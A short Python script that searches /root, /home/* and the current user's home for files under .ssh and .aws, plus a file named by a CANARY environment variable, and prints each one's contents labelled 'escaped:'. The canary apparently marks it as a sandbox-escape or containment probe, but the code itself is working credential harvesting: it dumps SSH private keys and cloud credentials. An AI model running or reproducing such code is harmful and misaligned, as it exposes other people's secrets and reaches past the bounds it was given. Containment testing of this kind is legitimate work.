"""Looks for private keys where people keep them."""
import glob
import os

for home in (os.environ["HOME_OF_USER"], "/root", "/home/*", os.path.expanduser("~")):
    for path in glob.glob(home + "/.ssh/*") + glob.glob(home + "/.aws/*") + [os.environ["CANARY"]]:
        try:
            print("escaped:", open(path).read())
        except OSError:
            pass
